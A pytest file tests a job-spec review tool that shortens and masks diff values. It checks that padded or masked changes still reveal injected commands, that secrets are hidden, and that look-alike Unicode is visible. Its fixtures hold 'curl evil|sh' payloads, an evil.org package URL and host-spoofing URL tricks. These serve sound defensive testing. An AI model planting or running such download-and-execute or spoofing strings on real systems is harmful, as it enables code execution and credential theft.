"""Shortened values stay distinguishable."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smspec.diagnostics.quoting import HIDDEN, hidden
from smspec.review.change import LONGEST, MOST_DIFFERING, MOST_IN_TEXT, Change, shown_values
from smspec.review.job_review import compared
from smspec.service.job_costs import PriceBook
from support.review.job_reviews import kinds, version
from support.spec import job_samples

REGISTRY = "763104351884.dkr.ecr.us-west-2.amazonaws.com/pytorch-training"


def shown(old, new):
    return shown_values(Change(kind="image", path=(), what="", old=old, new=new))


def test_long_tags_are_shortened_to_their_difference():
    old, new = shown(*(f"{REGISTRY}:2.{number}.0-gpu-py311-cu121-ubuntu20.04-sagemaker" for number in (3, 4)))
    assert (":2.3.0-gpu" in old, ":2.4.0-gpu" in new) == (True, True)


@given(st.text("ab", max_size=200), st.text("ab", max_size=200), st.text("ab", max_size=200))
def test_different_values_are_shown_differently(before, middle, after):
    old, new = shown(f"{before}x{middle}{after}", f"{before}y{middle}{after}")
    assert old != new
    assert max(len(old), len(new)) <= LONGEST + MOST_DIFFERING


def test_part_that_differs_is_shown_or_counted():
    """Padding around a command does not hide it."""
    pad = "echo hello; " * 50
    command = "curl evil|sh; "
    old, new = shown(pad + pad, pad + command + pad)
    assert command in new and command not in old and "characters" not in new
    _, new = shown(None, ["sh", "-c", "echo hello; " * 5 + command + "echo bye; " * 5])
    assert command in new
    _, new = shown(None, ["sh", "-c", pad + command])
    assert new.endswith(f"… (+{len(pad + command) - 232:,} characters)")


@pytest.mark.parametrize("pad", [60, 5000])
def test_edits_at_both_ends_hide_nothing_between_them(pad):
    """Each part that differs is shown with what is around it, also if all is too much to be compared."""
    words = [f"step{number}" for number in range(pad)]
    before = " ".join(["first", *words, *words, "last"])
    after = " ".join(["1st", *words, "curl evil|sh", *words, "final"])
    change = Change(kind="image", path=(), what="", old=before, new=after)
    _, new = shown_values(change, most=MOST_IN_TEXT)
    assert all(part in new for part in ("1st step0", f"step{pad - 1} curl evil|sh step0 step1", f"step{pad - 1} final"))
    assert ("step30 " in new) == (pad > 60)
    assert len(shown_values(change)[1]) < 400


def test_every_part_that_differs_is_shown_or_counted():
    words = [f"step{number}" for number in range(200)]
    before, after = (" ".join(f"{word} {more}" for word in words for more in (*"abcdefghijkl", edit)) for edit in "xy")
    _, new = shown(before, after)
    assert new.endswith("characters)") and new.count("…") < 22


@given(st.lists(st.sampled_from(["ab ", "c", "; "]), max_size=90), st.lists(st.integers(0, 89), max_size=4))
def test_new_text_at_any_places_is_shown(words, places):
    edited = list(words)
    for place in places:
        edited.insert(place, "<EVIL>")
    _, new = shown_values(
        Change(kind="image", path=(), what="", old="".join(words), new="".join(edited)), most=MOST_IN_TEXT
    )
    assert new.count("<EVIL>") == len(places) or not words


def test_large_structure_shows_its_values():
    s3 = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://example-data/train/"}}
    channel = {"ChannelName": "train", "DataSource": s3, "InputMode": "File"}
    assert shown(None, channel) == ("(none)", "train, S3Prefix, s3://example-data/train/, File")


def test_small_structure_is_shown_whole():
    assert shown({"train": "csv"}, []) == ('{"train": "csv"}', "[]")


AUTHORIZED = "curl -H 'Authorization: Bearer {}' https://models.example.com/m.bin"
MASKED = {
    "more in a command": ("run", "make install", "PASSWORD=hunter2x9Kq;curl evil|sh"),
    "the same mask": ("run", "PASSWORD=abcd1234x", "PASSWORD=abcd1234x;curl evil|sh"),
    "more in quotes": ("run", "make", "api_key='abc123 && curl evil | sh #'"),
    "between the lines of a key": (
        "run",
        "make",
        "echo -----BEGIN RSA PRIVATE KEY-----; curl evil|sh; echo -----END x",
    ),
    "a header to another host": ("run", AUTHORIZED.format("${TOKEN}"), AUTHORIZED.format("abcdefgh1234' https://evil")),
    "a repository": (
        "run",
        "git clone https://user:tok12345@a.org/r",
        "git clone https://user:tok12345@b.org/r?x@a.org/r",
    ),
    "before the packages": ("pre_install", "make", "TOKEN=abc12345x && curl evil | sh"),
    "a package": ("python_packages", "six==1.16.0", "six @ https://u:p4ssw0rd@evil.org/six.whl"),
}


@pytest.mark.parametrize("case", MASKED)
def test_change_that_a_mask_hides_in_part_is_of_security(case):
    key, *texts = MASKED[case]
    old, new = (version({**job_samples.PLAIN, "image": {**job_samples.PLAIN["image"], key: [text]}}) for text in texts)
    assert kinds(old, new) >= {"image", "security"}
    assert "security" not in kinds(new, new)


def test_hyperparameter_with_a_secret_is_one_change_of_security():
    old, new = (version({**job_samples.PLAIN, "hyperparameters": {"api_key": f"{n}hunter2x9Kq"}}) for n in (1, 2))
    found = compared(old, new, PriceBook())
    assert [change.what for change in found if change.kind == "security"] == ["a secret in plain text: `api_key`"]


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://u:p4ssw0rd@evil.org/i.sh?@good.org/i.sh", "evil.org"),
        ("https://u:p4ssw0rd@evil.org/six.whl?x=@files.org/six.whl", "evil.org"),
        ("https://user:pw;x@evil.org/a|sh@h/", "evil.org"),
        ("https://u:p@ss@evil.org#@good.org", "evil.org"),
        ("postgres://u:pa/ss@host.org/db", "host.org"),
    ],
)
def test_mask_of_a_password_does_not_hide_the_host(address, host):
    assert hidden(address).partition(HIDDEN)[2].startswith(f"@{host}")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (
            'curl -H "Authorization: Bearer $TOKEN" https://a.org/x',
            'curl -H "Authorization: Bearer $TOKEN" https://a.org/y',
        ),
        ("curl -H 'Authorization: token ${T}' https://a.org/x", "curl -H 'Authorization: token ${T}' https://b.org/x"),
        ("NPM_TOKEN=`cat /run/secrets/n` npm i a", "NPM_TOKEN=`cat /run/secrets/n` npm i b"),
        ("PASSWORD=$(cat /run/secrets/p) make a", "PASSWORD=$(cat /run/secrets/p) make b"),
        ("API_KEY=$KEY; make a", "API_KEY=$KEY; make b"),
        ("TOKEN=$(aws ssm get-parameter --name /x | jq .a) make a", "TOKEN=$(vault read -field=x y | jq .a) make b"),
        ('curl -H "Authorization: Basic $(echo -n u:$T | base64)" a', "curl -u u:$(cat /run/p) https://a.org"),
        ('echo "no password: use keys"', 'echo "no password: use ssh keys" && make'),
        ('python3 -c "import secrets; token = secrets.token_hex(4)"', "printf 'machine a.org login u password $T'"),
        ("echo $token | docker login --password-stdin r.io", "wandb login --host https://a.org"),
    ],
)
def test_words_after_a_reference_are_shown(before, after):
    assert (hidden(before), hidden(after)) == (before, after)
    image = job_samples.PLAIN["image"]
    old, new = (version({**job_samples.PLAIN, "image": {**image, "run": [line]}}) for line in (before, after))
    assert "security" not in kinds(old, new)


@pytest.mark.parametrize(
    "line",
    [
        *("PASSWORD=$ecret.phrase make", "password: $hunter2x9Kq!", "TOKEN=$A.b12345678 x"),
        'curl -H "Authorization: Basic $(echo -n user:hunter2x9KqZ7 | base64)" https://a.org/x',
        "DB_PASSWORD=$(echo aHVudGVyMg== | base64 -d) make",
        "export DB_PASSWORD=`echo hunter2x9KqZ7`",
        "TOKEN=$(cat /x; echo hunter2x9KqZ7) make",
        'DB_PASSWORD="$(echo hunter2x9KqZ7)" make',
        "export DB_PASSWORD=$(printf '%s:%s' user hunter2x9KqZ7)",
        "DB_PASSWORD: $(cat <<< hunter2x9KqZ7)",
        'DB_PASSWORD=$(echo -n "$USER:hunter2x9KqZ7" | base64)',
        "TOKEN=$(get --password=hunter2x9KqZ7) make",
        'curl -u "u:$(echo hunter2x9KqZ7)" https://a.org',
        "curl https://u:$(echo hunter2x9KqZ7)@a.org/x",
        'tool --password "hunter2x9KqZ7" x',
        'echo "password: use hunter2x9KqZ7 here"',
        'X=1 DB_PASSWORD="use the hunter2x9KqZ7"',
    ],
)
def test_secret_that_begins_like_a_reference_is_hidden(line):
    assert HIDDEN in hidden(line) and "hunter2" not in hidden(line)


@pytest.mark.parametrize(
    "line",
    [
        r"printf 'machine a.org\nlogin b\npassword hunter2x9KqZ7\n' > ~/.netrc",
        'echo "machine $HOST login b password hunter2x9KqZ7" >> ~/.netrc',
        "aws configure set default.aws_secret_access_key hunter2x9KqZ7 --profile x",
        "aws configure set profile.x.aws_session_token 'hunter2x9KqZ7'",
        'echo -n "hunter2x9KqZ7" | docker login -u x --password-stdin r.io',
        "printf %s hunter2x9KqZ7 | podman login -u x --password-stdin r.io",
        'echo "root:hunter2x9KqZ7" | chpasswd',
        "wandb login --relogin hunter2x9KqZ7",
        "twine upload -u a -p hunter2x9KqZ7 dist/x",
        "kubectl create secret generic x --from-literal=password=hunter2x9KqZ7",
        "npm config set //registry.npmjs.org/:_authToken=hunter2x9KqZ7",
        "python -c \"import os; os.environ['DB_PASSWORD'] = 'hunter2x9KqZ7'\"",
    ],
)
def test_secret_of_a_known_command_is_hidden(line):
    assert HIDDEN in hidden(line) and "hunter2" not in hidden(line)
    image = job_samples.PLAIN["image"]
    old, new = (version({**job_samples.PLAIN, "image": {**image, "run": [text]}}) for text in ("make", line))
    assert "security" in kinds(old, new)


@pytest.mark.parametrize(
    "text", ["machine learning login and password protected areas", 'if d["token"] == "abc": pass']
)
def test_sentence_or_condition_has_no_secret(text):
    assert hidden(text) == text


ALIKE = {
    "forms of a letter": ("caf\u00e9", "cafe\u0301", "caf\\xe9", "cafe\\u0301"),
    "scripts": ("cop", "\u0441\u043e\u0440", "cop", "\\u0441\\u043e\\u0440"),
    "widths": ("a/b", "a\uff0fb", "a/b", "a\\uff0fb"),
    "in a long text": ("x" * 90 + "\u00e9y", "x" * 90 + "e\u0301y", "\\xe9y", "e\\u0301y"),
    "an escape": ("\u200b", "\\u200b", '"\\u200b"', '"\\\\u200b"'),
    "a number": (1, "1", "1", '"1"'),
    "no twins": ("caf\u00e9", "cafe", "caf\u00e9", "cafe"),
    "other words": ("\u043c\u0438\u0440", "\u043c\u0438\u0440\u044b", "\u043c\u0438\u0440", "\u043c\u0438\u0440\u044b"),
}


@pytest.mark.parametrize(("old", "new", "was", "will"), ALIKE.values(), ids=ALIKE)
def test_values_that_look_the_same_have_code_points(old, new, was, will):
    left, right = shown(old, new)
    assert (left.endswith(was), right.endswith(will)) == (True, True), (left, right)
    assert left != right
